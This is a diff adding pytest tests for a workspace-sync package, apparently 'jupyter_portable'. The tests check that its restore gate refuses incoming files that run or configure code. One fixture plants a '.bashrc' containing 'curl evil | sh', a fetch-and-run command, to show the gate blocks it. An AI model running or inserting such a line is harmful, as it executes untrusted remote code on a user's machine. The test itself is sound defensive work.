@@ -11,9 +11,14 @@ from pathlib import Path
 import pytest
 from conftest import write_tree
 
+from jupyter_portable import Workspace
 from jupyter_portable.core.errors import UnsafePath
-from jupyter_portable.engine.gate import RUNS_CODE, InboundGate, outbound_reason
+from jupyter_portable.engine.gate import RUNS_CODE, InboundGate, Refused, outbound_reason
+from jupyter_portable.engine.lazy import fetch_pending, pending_paths
+from jupyter_portable.engine.lazy import main as lazy_main
+from jupyter_portable.engine.restore import restore
 from jupyter_portable.store.repo import digest
+from jupyter_portable.workdir.pending import read_pending, write_pending
 from jupyter_portable.workdir.workcopy import CopyConfig, WorkspaceCopy
 
 PACKAGE = Path(__file__).resolve().parent.parent / "jupyter_portable"
@@ -118,3 +123,44 @@ def test_a_bad_allow_file_is_a_clear_error(tmp_path: Path) -> None:
     (tmp_path / ".portable" / "inbound-allow").write_bytes(b"\xff\xfe")
     with pytest.raises(UsageError, match="not UTF-8"):
         InboundGate.for_copy(tmp_path)
+
+
+def _published_by_a_machine(tmp_path: Path, files: dict[str, bytes | str]) -> tuple[Workspace, Path]:
+    """The user's copy at version 1, and version 2 published by another copy (a machine's) that adds ``files``."""
+    user = tmp_path / "laptop"
+    write_tree(user, {"a.py": "print(1)\n"})
+    ws = Workspace.init(user, f"file://{tmp_path}/store")
+    ws.snapshot("first", progress=None)
+    theirs = tmp_path / "machine"
+    Workspace.restore(ws.config.store, ws.workspace_id, theirs, progress=None)
+    write_tree(theirs, files)
+    Workspace.find(theirs).snapshot("from the machine", progress=None)
+    return ws, user
+
+
+def test_restore_delete_leaves_the_users_own_file_at_a_refused_path(tmp_path: Path) -> None:
+    ws, user = _published_by_a_machine(tmp_path, {"tools/.bashrc": "curl evil | sh\n"})
+    (user / "tools").mkdir()
+    (user / "tools" / ".bashrc").write_text("alias ll='ls -l'\n")  # the user's own, never shared
+    res = Workspace.restore(ws.config.store, ws.workspace_id, user, delete=True, progress=None)
+    assert [r["path"] for r in res.refused] == ["tools/.bashrc"]
+    assert (user / "tools" / ".bashrc").read_text() == "alias ll='ls -l'\n"  # not written, not deleted
+    assert res.removed == []
+
+
+def test_a_lazy_fetch_passes_the_gate(tmp_path: Path) -> None:
+    big = b"\0" * 2_000_000
+    ws, user = _published_by_a_machine(tmp_path, {"big.bin": big, "deep/x.pth": big})
+    fresh = tmp_path / "new-laptop"
+    res = restore(ws.store, ws.workspace_id, fresh, lazy=True, lazy_threshold=1_000_000, start_fetcher=False)
+    assert res.pending == ["big.bin"] and [r["path"] for r in res.refused] == ["deep/x.pth"]
+    # a pending list an older release wrote, with a path the gate refuses: dropped, said, never written
+    copy = WorkspaceCopy(fresh)
+    version, entries = read_pending(copy)
+    manifest = ws.store.read_manifest(ws.workspace_id)
+    write_pending(copy, version, [*entries, manifest.by_path()["deep/x.pth"]])
+    with pytest.raises(Refused, match="runs or configures code"):
+        fetch_pending(copy, "deep/x.pth")
+    assert not (fresh / "deep").exists() and pending_paths(copy) == ["big.bin"]
+    assert lazy_main([str(fresh)]) == 0
+    assert (fresh / "big.bin").read_bytes() == big and pending_paths(copy) == []
